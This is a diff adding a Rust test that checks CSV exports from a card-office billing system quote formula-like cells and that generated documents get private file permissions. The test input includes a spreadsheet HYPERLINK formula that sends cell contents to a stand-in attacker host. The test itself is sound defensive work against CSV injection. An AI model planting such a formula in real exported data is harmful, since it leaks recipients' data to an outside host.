@@ -246,3 +246,48 @@ fn a_card_spoiled_after_report_ok_and_made_again_is_billed_once() {
     let day2 = billing(&store, DAY2, "2026-11-25T00:00:00.000Z", &config, &dir.path().join("d2")).expect("day 2");
     assert!(day2.is_empty(), "R-0's second acceptance is not billed again, and no number is taken: {day2:?}");
 }
+
+/// Ids NGOC sent that a spreadsheet would run as formulas: quoted in every CSV; and every
+/// document written 0600 in directories made 0700 (they hold names and addresses).
+#[test]
+fn csv_cells_that_look_like_formulas_are_quoted_and_documents_are_private() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&dir.path().join("data"));
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let (org, shipment, article) = ("@ORG-1", "-SHP-1", "+ART-1");
+    let parcel = store
+        .write(|tx| {
+            receive(tx, &request(org, shipment, "C-1", article, evil, "2026-11-22T08:00:00Z"), &t(DAY, 60));
+            produce(tx, "=anna", "C-1", shipment, &t(DAY, 7 * 60));
+            report_ok(tx, "C-1", shipment, &t(DAY, 8 * 60));
+            Ok::<_, StoreError>(ship(tx, "=anna", shipment, &["C-1".to_owned()], &[], Some("DHL"), Some(evil), &t(DAY, 9 * 60)))
+        })
+        .expect("seed");
+    let (from, to) = ("2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z");
+    let out = dir.path().join("documents/period");
+    let config = BillingConfig { default_cost_centre: Some("=CC".into()), ..Default::default() };
+    let bills = billing(&store, from, to, &config, &out).expect("billing");
+    let manifest_files = manifest(&store, from, to, "Kartenbüro", &out).expect("manifest");
+    let shift = shift_report(&store, from, to, &ShiftConfig::default(), "Kartenbüro", &out.join("shift.pdf")).expect("shift");
+    let slips = cardbench_documents::slip(&store, &cardbench_documents::SlipTarget::Parcel(parcel), &Default::default(), &dir.path().join("documents/slips/s.pdf")).expect("slip");
+
+    let billed = read_csv(&bills[0].path);
+    assert_eq!(billed[1][..3], ["'=CC".to_owned(), bills[0].invoice_number.clone(), format!("'{article}")]);
+    let listed = read_csv(&manifest_files[1]);
+    assert_eq!(listed[1][3..6], [format!("'{evil}"), format!("'{shipment}"), format!("'{org}")]);
+    let shifts = read_csv(&shift[1]);
+    assert!(shifts[1..].iter().any(|r| r[2] == "'=anna"), "{shifts:?}");
+    for csv in [&bills[0].path, &manifest_files[1], &shift[1]] {
+        let text = std::fs::read_to_string(csv).expect("read");
+        assert!(!text.lines().any(|l| l.split(',').any(|c| c.trim_start_matches('"').starts_with(['=', '+', '-', '@']))), "{}:\n{text}", csv.display());
+    }
+
+    let mode = |p: &std::path::Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
+    for file in bills.iter().map(|b| b.path.clone()).chain(manifest_files).chain(shift).chain(slips) {
+        assert_eq!(mode(&file), 0o600, "{}", file.display());
+    }
+    for made in [dir.path().join("documents"), out, dir.path().join("documents/slips")] {
+        assert_eq!(mode(&made), 0o700, "{}", made.display());
+    }
+}
